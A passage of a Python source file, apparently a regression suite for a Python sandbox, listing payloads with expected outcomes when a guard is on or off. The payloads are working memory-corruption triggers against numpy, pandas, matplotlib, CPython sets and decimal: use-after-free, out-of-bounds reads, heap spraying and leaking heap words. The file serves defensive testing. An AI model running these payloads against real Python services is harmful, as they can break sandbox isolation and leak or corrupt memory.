        def main():
            keep = []
            a = np.empty(3, dtype=object)
            class B:
                def __bool__(self):
                    keep.append(a[0])
                    return True
            b = np.zeros(4, dtype=bool)
            opf = [["readwrite"]]
            fl = Flags(["refs_ok"])
            fl.target = opf
            try:
                it = np.nditer(b, flags=fl, op_flags=opf, op_dtypes=[object], casting="unsafe")
            except TypeError:
                return "made without a copy to write back"
            it.operands[0][0] = B()
            a[0] = [it]
            it = None
            np.putmask(a, np.array([True, False, False]), [7])
            spray = [[i, "new"] for i in range(50)]
            if keep and (keep[0] is spray or any(x is keep[0] for x in spray)):
                raise ValueError("__bool__ kept a list that was then freed")
            return [len(keep), opf]
        """, on={OK}, off={OK, EXCEPTION, CRASH}),
    Payload("numpy-putmask-nditer-op-getitem-adds-writeback-keeps-freed", """
        import numpy as np

        class Ops(list):
            def __getitem__(self, i):
                self.target[0].append("updateifcopy")
                return list(self)[i]

        def main():
            keep = []
            a = np.empty(3, dtype=object)
            class B:
                def __bool__(self):
                    keep.append(a[0])
                    return True
            b = np.zeros(4, dtype=bool)
            opf = [["readwrite"]]
            ops = Ops([b])
            ops.target = opf
            try:
                it = np.nditer(ops, ["refs_ok"], opf, [object], casting="unsafe")
            except TypeError:
                return "made without a copy to write back"
            it.operands[0][0] = B()
            a[0] = [it]
            it = None
            np.putmask(a, np.array([True, False, False]), [7])
            spray = [[i, "new"] for i in range(50)]
            if keep and (keep[0] is spray or any(x is keep[0] for x in spray)):
                raise ValueError("__bool__ kept a list that was then freed")
            return len(keep)
        """, on={OK}, off={OK, EXCEPTION, CRASH}),
    Payload("numpy-putmask-nested-iters-flags-getitem-adds-writeback-keeps-freed", """
        import numpy as np

        class Flags(list):
            def __getitem__(self, i):
                self.target[0].append("updateifcopy")
                return "refs_ok"

        def main():
            keep = []
            a = np.empty(3, dtype=object)
            class B:
                def __bool__(self):
                    keep.append(a[0])
                    return True
            b = np.zeros((2, 2), dtype=bool)
            opf = [["readwrite"]]
            fl = Flags(["refs_ok"])
            fl.target = opf
            try:
                outer, inner = np.nested_iters(b, [[0], [1]], fl, opf, [object],
                                               casting="unsafe")
            except TypeError:
                return "made without a copy to write back"
            inner.operands[0][0] = B()
            a[0] = [outer, inner]
            outer = inner = None
            np.putmask(a, np.array([True, False, False]), [7])
            spray = [[i, "new"] for i in range(50)]
            if keep and (keep[0] is spray or any(x is keep[0] for x in spray)):
                raise ValueError("__bool__ kept a list that was then freed")
            return len(keep)
        """, on={OK}, off={OK, EXCEPTION, CRASH}),
    Payload("numpy-putmask-nested-iters-writeback-str-keeps-freed", """
        import numpy as np

        def main():
            keep = []
            a = np.empty(3, dtype=object)
            class B:
                def __str__(self):
                    keep.append(a[0])
                    return "x"
            b = np.zeros((2, 2), dtype="U4")
            outer, inner = np.nested_iters(b, [[0], [1]], ["refs_ok"],
                                           [[b"readwrite", b"updateifcopy"]], [object],
                                           casting="unsafe")
            inner.operands[0][0] = B()
            a[0] = [outer, inner]
            outer = inner = None
            np.putmask(a, np.array([True, False, False]), [7])
            spray = [[i, "new"] for i in range(50)]
            if keep and (keep[0] is spray or any(x is keep[0] for x in spray)):
                raise ValueError("__str__ kept a list that was then freed")
            return len(keep)
        """, on={GUARD}, off={OK, EXCEPTION, CRASH}),
    # review 142 F1: numpy adds updateifcopy itself to a writable operand
    # that overlaps another when flags say "copy_if_overlap": the unclosed
    # iterator cast its object copy back with the code's __bool__ inside
    # putmask's store (the freed list came back as the next list made)
    Payload("numpy-putmask-nditer-copy-if-overlap-writeback-keeps-freed", """
        import numpy as np

        def main():
            keep = []
            a = np.empty(3, dtype=object)
            class B:
                def __bool__(self):
                    keep.append(a[0])
                    return True
            b = np.zeros(6, dtype=bool)
            it = np.nditer([b[1:], b[:-1]], flags=["refs_ok", "copy_if_overlap"],
                           op_flags=[["readwrite"], ["readonly"]],
                           op_dtypes=[object, None], casting="unsafe")
            it.operands[0][0] = B()
            a[0] = [it]
            it = None
            np.putmask(a, np.array([True, False, False]), [7])
            spray = [[i, "new"] for i in range(50)]
            if keep and (keep[0] is spray or any(x is keep[0] for x in spray)):
                raise ValueError("__bool__ kept a list that was then freed")
            return len(keep)
        """, on={GUARD}, off={OK, EXCEPTION, CRASH}),
    Payload("numpy-putmask-nested-iters-copy-if-overlap-writeback-keeps-freed", """
        import numpy as np

        def main():
            keep = []
            a = np.empty(3, dtype=object)
            class B:
                def __bool__(self):
                    keep.append(a[0])
                    return True
            b = np.zeros(6, dtype=bool)
            its = np.nested_iters([b[1:], b[:-1]], [[0], []],
                                  flags=["refs_ok", "copy_if_overlap"],
                                  op_flags=[["readwrite"], ["readonly"]],
                                  op_dtypes=[object, None], casting="unsafe")
            its[0].operands[0][0] = B()
            a[0] = [its]
            its = None
            np.putmask(a, np.array([True, False, False]), [7])
            spray = [[i, "new"] for i in range(50)]
            if keep and (keep[0] is spray or any(x is keep[0] for x in spray)):
                raise ValueError("__bool__ kept a list that was then freed")
            return len(keep)
        """, on={GUARD}, off={OK, EXCEPTION, CRASH}),
    # review 146 F1: a buffered iterator casts its object buffer back as it
    # dies without numpy marking anything WRITEBACKIFCOPY
    Payload("numpy-putmask-nditer-buffered-object-writeback-keeps-freed", """
        import numpy as np

        def main():
            keep = []
            a = np.empty(3, dtype=object)
            class B:
                def __bool__(self):
                    keep.append(a[0])
                    return True
            b = np.zeros(4, dtype=bool)
            it = np.nditer(b, flags=["refs_ok", "buffered"], op_flags=[["readwrite"]],
                           op_dtypes=[object], casting="unsafe")
            v = it.value
            v[...] = B()
            v = None
            a[0] = [it]
            it = None
            np.putmask(a, np.array([True, False, False]), [7])
            spray = [[i, "new"] for i in range(50)]
            if keep and (keep[0] is spray or any(x is keep[0] for x in spray)):
                raise ValueError("__bool__ kept a list that was then freed")
            return len(keep)
        """, on={GUARD}, off={OK, EXCEPTION, CRASH}),
    # CPython gh-143546 (review 150 F1): an __eq__ that adds to the set
    # being added to makes its count one too high; set_dealloc then walked
    # past its table and dropped a reference of the next set's element
    Payload("set-add-reentrant-eq-count-frees-neighbour", """
        class D:
            def __hash__(self):
                return 0

        BOX = []
        HOLD = []

        class Trigger:
            def __init__(self):
                self.counter = 0
            def __hash__(self):
                return 0
            def __eq__(self, other):
                if self.counter < 1:
                    self.counter += 1
                    BOX[0].add(self)
                return False

        def normal(j, keep):
            s = set()
            for t in range(8):
                m = (j, t * 1000003)
                keep.append(m)
                s.add(m)
            return s

        def main():
            keep = []
            before = [normal(j, keep) for j in range(40)]
            a = set()
            d1 = D()
            d2 = D()
            a.add(d1)
            a.add(d2)
            for t in range(4):
                a.add(("f", t))
            after = [normal(100 + j, keep) for j in range(40)]
            a.discard(d1)
            BOX.append(a)
            a.add(Trigger())
            BOX.clear()
            del a
            del d1
            for s in before + after:
                s.clear()
            before.clear()
            after.clear()
            spray = [(i, -i) for i in range(50)]
            hits = [k for k in keep if any(k is x for x in spray)]
            HOLD.append((keep, spray, hits))
            if hits:
                raise ValueError("a freed tuple is still in keep")
            return len(keep)
        """, on={OK}, off={OK, EXCEPTION, CRASH}),
    Payload("set-add-reentrant-eq-count-frees-neighbour-list-spray", """
        class D:
            def __hash__(self):
                return 0

        BOX = []
        HOLD = []

        class Trigger:
            def __init__(self):
                self.counter = 0
            def __hash__(self):
                return 0
            def __eq__(self, other):
                if self.counter < 1:
                    self.counter += 1
                    BOX[0].add(self)
                return False

        def normal(j, keep):
            s = set()
            for t in range(8):
                m = (j, t * 1000003)
                keep.append(m)
                s.add(m)
            return s

        def main():
            keep = []
            before = [normal(j, keep) for j in range(40)]
            a = set()
            d1 = D()
            d2 = D()
            a.add(d1)
            a.add(d2)
            for t in range(4):
                a.add(("f", t))
            after = [normal(100 + j, keep) for j in range(40)]
            a.discard(d1)
            BOX.append(a)
            a.add(Trigger())
            BOX.clear()
            del a
            del d1
            filler = [(i, i + 1) for i in range(2500)]
            filler.clear()
            for s in before + after:
                s.clear()
            before.clear()
            after.clear()
            spray = [[i] for i in range(20000)]
            ids = {id(x) for x in spray}
            hits = [k for k in keep if id(k) in ids and any(k is x for x in spray)]
            HOLD.append((keep, spray, hits, hits * 4))
            if hits:
                raise ValueError("a tuple of keep is now a list of the spray")
            return len(keep)
        """, on={OK}, off={OK, EXCEPTION, CRASH}),
    # the same miscount (gh-143546) emptied by other ways than freeing
    # (reviews 152 F1, 153 F1): set_clear_internal walks by the count too
    set_miscount_payload("clear", "", "target.clear()"),
    set_miscount_payload("isub-self", "", "target -= target"),
    set_miscount_payload("ixor-self", "", "target ^= target"),
    set_miscount_payload("difference-update-self", "", "target.difference_update(target)"),
    set_miscount_payload("collector", "", """
        target = None
        junk = [[k] for k in range(20000)]
        junk = None""", trigger="""
        sobj = H(3, "S")
        sobj.ref = target
        target.add(sobj)
        sobj = None"""),
    set_miscount_payload("reinit", """
        class Kind(set):
            def redo(self):
                super().__init__()""", "target.redo()"),
    # review 160 F1: pandas' ensure_string_array takes len(arr), then reads
    # arr.to_numpy()'s items below that length with bounds checks off: a
    # list shorter than __len__ said was read past its end
    Payload("string-array-to-numpy-shorter-than-len", """
        import pandas as pd

        class Liar:
            def __init__(self):
                self.items = ["a", "b"]
            def __len__(self):
                return 100000
            def to_numpy(self):
                return self.items

        def main():
            out = pd.array(Liar(), dtype="string")
            if len(out) != 2:
                raise ValueError("read %d items of 2" % len(out))
            return len(out)
        """, on={OK}, off={OK, EXCEPTION, CRASH}),
    # ... and an item's __str__ that emptied the list while it was read
    Payload("string-array-item-str-clears-list", """
        import pandas as pd

        HELD = []

        class Item:
            def __str__(self):
                HELD[0].clear()
                for i in range(200):
                    HELD.append(bytearray(24))
                return "x"

        class Holder:
            def __len__(self):
                return len(HELD[0])
            def to_numpy(self):
                return HELD[0]

        def main():
            HELD.append([Item()] + ["v%d" % i for i in range(1000)])
            out = pd.array(Holder(), dtype="string")
            return len(out)
        """, on={OK}, off={OK, EXCEPTION, CRASH}),
    # review 160 F2: tz_localize(ambiguous=x) checks len(x), then reads
    # np.asarray(x, bool), which the object made shorter, for every time
    Payload("tz-localize-ambiguous-shorter-than-len", """
        import pandas as pd

        class Liar:
            def __init__(self, n):
                self.n = n
            def __len__(self):
                return self.n
            def __iter__(self):
                return iter([True])
            def __getitem__(self, i):
                return True

        def main(n=100000):
            s = pd.Series(pd.DatetimeIndex(["2021-11-07 01:30:00"] * n))
            r = s.dt.tz_localize("US/Eastern", ambiguous=Liar(n))
            return int((r.dt.tz_convert("UTC").dt.hour.to_numpy() == 5).sum())
        """, on={EXCEPTION}, off={OK, EXCEPTION, CRASH}),
    Payload("period-fields-month-reads-past-table", """
        import pandas as pd

        def main():
            words, prev = [], pd.Period(year=2001, month=13, day=1, freq="D").ordinal
            for m in range(14, 14 + 64):
                cur = pd.Period(year=2001, month=m, day=1, freq="D").ordinal
                words.append((cur - prev) & 0xFFFFFFFF)
                prev = cur
            return " ".join("%08x" % w for w in words)
        """, on={EXCEPTION}, off={OK, EXCEPTION, CRASH}),
    Payload("period-month-int-max-crash", """
        import pandas as pd

        def main():
            return pd.Period(year=2001, month=2**31 - 1, day=1, freq="D").ordinal
        """, on={EXCEPTION}, off={OK, EXCEPTION, CRASH}),
    Payload("period-index-fields-month-reads-past-table", """
        import pandas as pd

        def main():
            return [int(p.ordinal) for p in pd.PeriodIndex(year=[2001] * 3, month=[13, 100, 10**6], day=[1] * 3, freq="D")]
        """, on={EXCEPTION}, off={OK, EXCEPTION, CRASH}),
    Payload("fy5253-starting-month-crash", """
        import datetime
        import pandas as pd

        def main():
            off = pd.offsets.FY5253(weekday=0, startingMonth=2**31 - 1)
            return str(off.get_year_end(datetime.datetime(2020, 1, 1)))
        """, on={EXCEPTION}, off={OK, EXCEPTION, CRASH}),
    # review 160 F3/F4: pandas' C code reads a date's fields, a time's
    # isoformat() and a timedelta's total_seconds() by name: a subclass's
    # month indexed the tables, a tuple from isoformat() was read as bytes
    # (its item pointers), a raising total_seconds() was a NULL it read
    Payload("date-subclass-month-property-json", """
        import datetime
        import pandas as pd

        class D(datetime.date):
            @property
            def month(self):
                return 200

        def main():
            return pd.Series([D(2001, 1, 1)], dtype=object).to_json(date_format="epoch")
        """, on=PYLAYER, off={OK, EXCEPTION, CRASH}),
    Payload("datetime-subclass-month-period", """
        import datetime
        import pandas as pd

        class DT(datetime.datetime):
            @property
            def month(self):
                return 100

        def main():
            return pd.Period(DT(2001, 1, 1), freq="D").ordinal
        """, on=PYLAYER, off={OK, EXCEPTION, CRASH}),
    Payload("date-subclass-month-set-on-class", """
        import datetime
        import pandas as pd

        class D(datetime.date):
            pass

        def main():
            setattr(D, "month", property(lambda self: 200))
            return pd.Series([D(2001, 1, 1)], dtype=object).to_json(date_format="epoch")
        """, on=PYLAYER, off={OK, EXCEPTION, CRASH}),
    Payload("date-subclass-month-from-mixin", """
        import datetime
        import pandas as pd

        class M:
            @property
            def month(self):
                return 200

        class D(M, datetime.date):
            pass

        def main():
            return pd.Series([D(2001, 1, 1)], dtype=object).to_json(date_format="epoch")
        """, on=PYLAYER, off={OK, EXCEPTION, CRASH}),
    Payload("time-subclass-isoformat-tuple-read-as-bytes", """
        import datetime
        import pandas as pd

        HELD = []

        class T(datetime.time):
            def isoformat(self, *args):
                return HELD[0]

        def main(n=64):
            HELD.append(tuple(range(n)))
            try:
                return pd.Series([T(1, 2, 3)], dtype=object).to_json(force_ascii=False)
            except UnicodeDecodeError as e:
                return {"leaked_hex": e.object.hex()}
        """, on=PYLAYER, off={OK, EXCEPTION, CRASH}),
    Payload("timedelta-subclass-total-seconds-raises", """
        import datetime
        import pandas as pd

        class TD(datetime.timedelta):
            def total_seconds(self):
                raise ValueError("no")

        def main():
            return pd.Series([TD(1)], dtype=object).to_json()
        """, on=PYLAYER, off={OK, EXCEPTION, CRASH}),
    Payload("timedelta-subclass-value-attribute", """
        import datetime
        import pandas as pd

        class TD(datetime.timedelta):
            pass

        def main():
            t = TD(1)
            t.value = "x"
            return pd.Series([t], dtype=object).to_json()
        """, on=PYLAYER, off={OK, EXCEPTION, CRASH}),
    # review 161 F1: pandas caches a pytz zone's transitions under its
    # zone; the code's zone of another name (set on pytz's own object, or a
    # subclass's) made pandas read the real zone's 4-item list at [236]
    Payload("pytz-zone-set-poisons-dst-cache", """
        import pandas as pd, numpy as np

        def main():
            tz = pd.Timestamp("2021-01-01", tz="US/Eastern").tz   # pytz's own US/Eastern object
            tz.zone = "Asia/Kathmandu"                            # pandas' dst_cache key for pytz zones
            try:
                pd.Timestamp(0, tz=tz)      # caches US/Eastern's 237 transitions under "Asia/Kathmandu"
            except Exception:
                pass
            dti = pd.DatetimeIndex(np.array(["2021-01-01"], "M8[ns]")).tz_localize("UTC").tz_convert("Asia/Kathmandu")
            return str(dti.astype(object))  # real Kathmandu: tz._transition_info (4 items) read at [236]
        """, on=PYLAYER, off={OK, EXCEPTION, CRASH}),
    Payload("pytz-zone-subclass-poisons-dst-cache", """
        import pandas as pd, numpy as np

        def main():
            E = type(pd.Timestamp("2021-01-01", tz="US/Eastern").tz)
            class Z(E):                     # no private name: allowed
                zone = "Asia/Kathmandu"
            try:
                pd.Timestamp(0, tz=Z())
            except Exception:
                pass
            dti = pd.DatetimeIndex(np.array(["2021-01-01"], "M8[ns]")).tz_localize("UTC").tz_convert("Asia/Kathmandu")
            return str(dti.astype(object))
        """, on=PYLAYER, off={OK, EXCEPTION, CRASH}),
    # review 161 F2: matplotlib's native extents read the paths' len()
    # again (1, then 0) and divided by it
    Payload("mpl-path-collection-extents-len-zero-divides", """
        import matplotlib.path as mpath
        import numpy as np
        from matplotlib.transforms import IdentityTransform

        class Paths:
            def __init__(self):
                self.calls = 0
            def __len__(self):
                self.calls += 1
                return 1 if self.calls == 1 else 0
            def __getitem__(self, i):
                raise IndexError(i)

        def main():
            return str(mpath.get_path_collection_extents(
                IdentityTransform(), Paths(), np.zeros((0, 3, 3)), np.zeros((3, 2)), IdentityTransform()))
        """, on={EXCEPTION}, off={OK, EXCEPTION, CRASH}),
    # review 161 F3: a same-size resize() or a shape store in the middle
    # of matplotlib's native loop changed the shape and strides its array
    # view held (heap words read, then SIGSEGV)
    mpl_offsets_payload("mpl-offsets-same-size-resize-mid-loop", "self.offsets.resize((1, n))"),
    mpl_path_subclass_payload("mpl-offsets-same-size-resize-array-shape",
                              "o.resize(np.array([1, o.size]))     # the shape given as an array"),
    mpl_offsets_payload("mpl-offsets-shape-store-mid-loop", "self.offsets.shape = (1, n)"),
    Payload("mpl-offsets-shape-store-frees-dims", """
        import matplotlib.path as mpath
        import numpy as np
        from matplotlib.transforms import IdentityTransform

        KEEP = []

        class Paths:
            def __init__(self, offsets, k):
                self.p = mpath.Path(np.array([[0.0, 0.0], [0.0, 0.0]]))
                self.offsets = offsets
                self.k = k
                self.done = False
            def __len__(self):
                return 1
            def __getitem__(self, i):
                if not self.done:
                    self.done = True
                    hold = [np.empty((1, 1)) for _ in range(40)]   # drain numpy's 2-d dims cache
                    del hold                                        # their blocks fill the 1-d one
                    self.offsets.shape = (2, 4)                     # the old dims block is freed
                    for _ in range(8):                              # new 2-d arrays take it: strides (8k, 8)
                        KEEP.append(np.zeros((3, self.k))[:, :2])
                return self.p

        def main(k=7000000):
            offsets = np.array([[1.0, 1.0], [2.0, 2.0], [3.0, 3.0], [4.0, 4.0]])
            bb = mpath.get_path_collection_extents(IdentityTransform(), Paths(offsets, k),
                                                   np.zeros((0, 3, 3)), offsets, IdentityTransform())
            return [float(v).hex() for v in bb.extents]
        """, on=PYLAYER | {EXCEPTION}, off={OK, EXCEPTION, CRASH, MEMORY}),
    mpl_path_subclass_payload("mpl-path-subclass-vertices-resizes-offsets",
                              "o.resize((1, o.size))", off={OK, EXCEPTION, CRASH}),
    # review 163 F1: a time-based rolling window's index is the code's own
    # array, changed after rolling() checked it sorted: a "left" window's
    # end walked back before the array, each word read deciding the next
    # bound, and the windows' lengths told the words
    Payload("pandas-rolling-index-unsorted-after-check", """
        import numpy as np
        import pandas as pd
        def main(K=2):
            n = 2 * K + 10
            a = (np.arange(n, dtype="i8") * 10**9).view("M8[ns]")
            s = pd.Series(np.ones(n), index=pd.DatetimeIndex(a))
            r = s.rolling("25000D", closed="left")
            ai = a.view("i8")
            known = []
            def probe(T):
                k = len(known)
                ai[0] = 0
                ai[1] = -1
                for j, w in enumerate(known):
                    ai[j + 2] = w - 1 if w != -2**63 else 2**63 - 1
                ai[k + 2] = T
                ai[k + 3:] = 2**62
                return [len(w) for w in r][k + 2] == n - (k + 2)
            def search(lo, hi):
                while lo < hi:
                    mid = (lo + hi + 1) // 2
                    if probe(mid - 1):
                        lo = mid
                    else:
                        hi = mid - 1
                return lo
            for k in range(K):
                known.append(search(1, 2**63 - 1) if probe(0) else search(-2**63, 0))
            return ["%016x" % (w & (2**64 - 1)) for w in known]
        """, on={EXCEPTION}, off={OK, EXCEPTION, CRASH}),
    # review 167 F2: the window's sorted copy was checked with np.diff, which
    # wraps: [-2**63+1, 2**63-1, T...] passed as decreasing while pandas
    # took it as increasing and read before the copy; a sorted index of
    # extreme times wraps pandas' own subtraction the same way
    Payload("pandas-rolling-index-wrapping-times", """
        import numpy as np
        import pandas as pd
        def main(n=12):
            a = (np.arange(n, dtype="i8") * 10**9).view("M8[ns]")
            r = pd.Series(np.ones(n), index=pd.DatetimeIndex(a)).rolling("25000D", closed="left")
            ai = a.view("i8")
            def le(T):
                ai[0] = -2**63 + 1
                ai[1] = 2**63 - 1
                ai[2:] = T
                return [len(w) for w in r][2] <= 2
            lo, hi = -1, 2**63 - 1
            while lo < hi:
                mid = (lo + hi) // 2
                lo, hi = (lo, mid) if le(mid) else (mid + 1, hi)
            return "%#x" % lo
        """, on={EXCEPTION}, off={OK, EXCEPTION, CRASH}),
    # review 167 F1: resize() to another size was allowed when only one
    # reference besides the call's held the array, but that one can be
    # native numpy's in an outer frame (a[i] = x calling x.__str__), which
    # then wrote through the old pointer into a bytearray that took the block
    Payload("numpy-resize-under-native-setitem", """
        import numpy as np
        def main():
            G = [np.zeros(40, dtype="U8")]
            H = []
            class X:
                def __str__(self):
                    G.pop().resize(100000)
                    for _ in range(50):
                        H.append(bytearray(1279))
                    return "PWNEDPWN"
            G[0][1] = X()
            needle = "PWNEDPWN".encode("utf-32-le")
            hit = [i for i, h in enumerate(H) if needle in h]
            if hit:
                return hit
            raise ValueError("nothing written into freed memory")
        """, on={GUARD, EXCEPTION}, off={OK, EXCEPTION, CRASH}),
    # review 167 F3: pandas' own CachedProperty read from its class, held
    # by a class of the code's, took any self._cache for a dict
    Payload("pandas-cached-property-instance-in-code-class", """
        import pandas as pd
        def main():
            class C:
                f = pd.Index.is_unique
                def __init__(self):
                    self._cache = []
            return repr(C().f)
        """, on={EXCEPTION}, off={OK, EXCEPTION, CRASH}),
    # review 166 F1, F5: numpy's native setters under numpy.core.multiarray
    # and umath: set_typeDict made the code's dict numpy's table of type
    # names, whose items numpy borrows (a dtype property of the code's freed
    # the object in use); set_string_function outlived the call
    Payload("numpy-set-typedict-borrowed-item-freed", """
        import numpy as np
        from numpy.core import multiarray as ma
        d = {}
        seen = []
        class P:
            @property
            def dtype(self):
                del d["zzz"]
                raise AttributeError("x")
            def __repr__(self):
                fresh = [P() for i in range(4)]
                seen.append([q is self for q in fresh])
                return "P-repr"
        def main():
            d["zzz"] = P()
            ma.set_typeDict(d)
            try:
                np.dtype("zzz")
            except TypeError:
                pass
            if seen and any(seen[0]):
                return seen
            raise ValueError("no freed object reused")
        """, on={GUARD, EXCEPTION}, off={OK, EXCEPTION, CRASH}),
    Payload("numpy-native-set-string-function", """
        import numpy as np
        from numpy.core import umath
        def main():
            umath.set_string_function(lambda a: "MINE", 1)
            return repr(np.arange(3))
        """, on={GUARD, EXCEPTION}, off={OK, EXCEPTION}),
    # review 166 F2: the memoryview np.frombuffer keeps as an array's base
    # holds the bytearray's export, and numpy holds none on it: released
    # through x.base, the bytearray moved under the array
    Payload("numpy-frombuffer-base-memoryview-released", """
        import numpy as np
        def main():
            b = bytearray(800)
            x = np.frombuffer(b, "u8")
            x.base.release()
            y = np.ndarray((100,), dtype="u8", buffer=bytearray(800))
            y.base.base.release()
            b.extend(bytes(100000))
            L = [int] * 99 + [str]
            word = int(x[99])
            x[0] = word
            return {"L[0] is str": L[0] is str, "word": hex(word)}
        """, on={EXCEPTION}, off={OK, EXCEPTION, CRASH}),
    # review 166 F3: aware datetimes of a tzinfo class of the code's went to
    # pandas' native join as plain values; utcoffset() answered the counting
    # pass and the filling pass otherwise (a heap overflow)
    Payload("pandas-join-aware-datetimes-code-tzinfo", """
        import datetime
        import pandas as pd
        calls = [0]
        switch = [None]
        class TZ(datetime.tzinfo):
            def __init__(self, late):
                self.late = late
            def utcoffset(self, dt):
                calls[0] += 1
                if self.late and switch[0] is not None and calls[0] > switch[0]:
                    return datetime.timedelta(hours=-20)
                return datetime.timedelta(0)
            def dst(self, dt):
                return None
            def tzname(self, dt):
                return "X"
        def main(n=200):
            base = datetime.datetime(2000, 1, 1)
            tl, tr = TZ(False), TZ(True)
            left = pd.Index([(base + datetime.timedelta(minutes=i)).replace(tzinfo=tl)
                             for i in range(n)], dtype=object)
            right = pd.Index([(base + datetime.timedelta(minutes=i)).replace(tzinfo=tr)
                              for i in range(n + 1)], dtype=object)
            for ix in (left, right):
                ix.is_unique, ix.is_monotonic_increasing
            calls[0] = 0
            switch[0] = 2 * n
            joined = left.join(right, how="outer")
            if len(joined) > 2 * n + 1:
                return len(joined)
            raise ValueError("joined within bounds: %d" % len(joined))
        """, on={EXCEPTION}, off={OK, EXCEPTION, CRASH}),
    # review 166 F4: an honest sorted index spanning more than 292 years
    # wrapped pandas' int64 subtraction; a "left" window's end went below 0
    Payload("pandas-rolling-sorted-times-past-int64", """
        import numpy as np
        import pandas as pd
        def main(k=5, m=8, A=-4_700_000_000_000_000_000, B=4_700_000_000_000_000_000):
            idx = np.array([A] * k + [B] * m, dtype="i8")
            s = pd.Series(np.arange(len(idx), dtype=float),
                          index=pd.DatetimeIndex(idx.view("M8[ns]")))
            lengths = [len(w) for w in s.rolling("1D", closed="left")]
            if max(lengths) >= m:       # a 1-day window holds fewer than m rows
                return lengths
            raise ValueError("no window past the array: %r" % lengths)
        """, on={EXCEPTION}, off={OK, EXCEPTION, CRASH}),
    # review 169 F1: an agg_filter's image went to the native draw_image
    # from stop_filter, past the checked one: (h, w, 1) bytes read as
    # (h, w, 4), the heap drawn into the figure
    Payload("mpl-agg-filter-image-one-channel", """
        import numpy as np
        import matplotlib.pyplot as plt
        def main(h=200, w=200):
            def post(img, dpi):
                return np.full((h, w, 1), 255, np.uint8), 0, 0
            fig, ax = plt.subplots(figsize=(3, 3), dpi=100)
            ax.axis("off")
            line, = ax.plot([0, 1], [0, 1], lw=5, color="white")
            line.set_agg_filter(post)
            fig.canvas.draw()
            a = np.asarray(fig.canvas.buffer_rgba())
            bad = np.any(a != 255, axis=2)
            if bad.any():
                return a[bad][:64].reshape(-1).tobytes().hex()
            raise ValueError("the figure stayed white")
        """, on={GUARD, EXCEPTION}, off={OK, GUARD, EXCEPTION, CRASH}),
    # review 163 F2: np.ndarray(buffer=) released the buffer it got and kept
    # only its exporter: a bytearray grew and freed the memory under the
    # array (a list's item pointers read, a number written as an object)
    Payload("numpy-ndarray-buffer-bytearray-grows-under-it", """
        import numpy as np
        def main():
            b = bytearray(800)
            x = np.ndarray((100,), dtype="u8", buffer=b)
            b.extend(bytes(100000))
            L = [int] * 99 + [str]
            word = int(x[99])
            x[0] = word
            return {"L[0] is str": L[0] is str, "word": hex(word)}
        """, on={EXCEPTION}, off={OK, EXCEPTION, CRASH}),
    Payload("numpy-array-subclasses-over-a-freed-buffer", """
        import io
        import numpy as np
        def main():
            moved = []
            grow = lambda b: b.extend(bytes(100000))
            def released(b):
                m = memoryview(b)
                return np.ndarray((100,), "u8", buffer=m), lambda b: (m.release(), grow(b))
            def bytesio(b):
                f = io.BytesIO(bytes(800))
                m = f.getbuffer()
                return np.ndarray((100,), "u8", buffer=m), lambda b: (m.release(),
                                                                      f.write(bytes(100000)))
            for name, make in (
                    ("recarray", lambda b: (np.recarray((100,), dtype=[("a", "u8")], buf=b), grow)),
                    ("chararray", lambda b: (np.char.chararray((800,), itemsize=1, buffer=b), grow)),
                    ("rec.fromstring", lambda b: (np.rec.fromstring(b, dtype=[("a", "u8")]), grow)),
                    ("memoryview released", released), ("BytesIO", bytesio),
                    ("clear", lambda b: (np.ndarray((100,), "u8", buffer=b), lambda b: b.clear()))):
                b = bytearray(800)
                try:
                    x, after = make(b)
                    after(b)
                    moved.append(name)
                except BufferError:
                    pass
            if moved:
                return "the buffer moved under " + ", ".join(moved)
            raise BufferError("every buffer stayed pinned")
        """, on={EXCEPTION}, off={OK, EXCEPTION}),
    # review 163 F3-F5: pandas' private native functions re-exported by
    # public modules: month_position_check indexed the calendar table with
    # the code's month, get_unit_from_dtype read a NULL pointer, and
    # cache_readonly took any self._cache for a dict
    Payload("pandas-month-position-check-month-13", """
        import numpy as np
        from pandas.tseries.frequencies import month_position_check
        def main():
            y, m = np.array([2001], "i4"), np.array([2000000000], "i4")
            return month_position_check({"Y": y, "M": m, "D": np.array([1], "i4")}, [4])
        """, on={EXCEPTION}, off={OK, EXCEPTION, CRASH}),
    Payload("pandas-get-unit-from-dtype-not-a-date", """
        import numpy as np
        from pandas.io.formats.format import get_unit_from_dtype
        def main():
            return get_unit_from_dtype(np.dtype("f8"))
        """, on={EXCEPTION}, off={OK, EXCEPTION, CRASH}),
    Payload("pandas-cache-readonly-bytearray-cache", """
        import struct
        from pandas.io.formats.csvs import cache_readonly
        def fake_keys(key_ptr):
            head = struct.pack("<qBBBxIqq", 1, 3, 3, 1, 0, 0, 1)
            return bytearray(head + bytes(8) + struct.pack("<QQ", key_ptr, 0) + bytes(64))
        class C:
            def __init__(self, key_ptr):
                self._cache = fake_keys(key_ptr)
            @cache_readonly
            def f(self):
                return 1
        def main():
            return C(0x4141414141414141).f
        """, on={EXCEPTION}, off={OK, EXCEPTION, CRASH}),
    Payload("pandas-cache-readonly-through-type-list-cache", """
        import pandas as pd
        def main():
            prop = type(pd.Index.is_unique)
            class C:
                def __init__(self):
                    self._cache = []
                @prop
                def f(self):
                    return 1
            return C().f
        """, on={EXCEPTION}, off={OK, EXCEPTION, CRASH}),
    Payload("decimal-rational-numerator-setcontext-frees-context", """
        import decimal
        import numbers

        def main():
            decimal.setcontext(decimal.Context())
            st = {"n": 0}
            spray = []
            class R:
                @property
                def numerator(self):
                    if st["n"] == 0:
                        st["n"] = 1
                        decimal.setcontext(decimal.Context(traps=[]))
                        for i in range(64):
                            spray.append(decimal.Context(traps=[]))
                    return 1
                @property
                def denominator(self):
                    return 1
            numbers.Rational.register(R)
            try:
                decimal.Decimal("NaN") < R()
            except TypeError:
                pass
            if any(c.flags[decimal.InvalidOperation] for c in spray):
                raise ValueError("the comparison wrote into a freed context")
            return len(spray)
        """, on={OK, VALIDATOR}, off={OK, VALIDATOR, EXCEPTION, CRASH}),
    Payload("decimal-rational-numerator-localcontext-generator-frees-context", """
        import decimal
        import numbers

        def main():
            st = {"n": 0}
            spray = []
            def gen():
                with decimal.localcontext():
                    yield 1
                yield 2
            g = gen()
            next(g)
            class R:
                @property
                def numerator(self):
                    if st["n"] == 0:
                        st["n"] = 1
                        next(g)
                        for i in range(64):
                            spray.append(decimal.Context(traps=[]))
                    return 1
                @property
                def denominator(self):
                    return 1
            numbers.Rational.register(R)
            try:
                decimal.Decimal("NaN") < R()
            except TypeError:
                pass
            if any(c.flags[decimal.InvalidOperation] for c in spray):
                raise ValueError("the comparison wrote into a freed context")
            return len(spray)
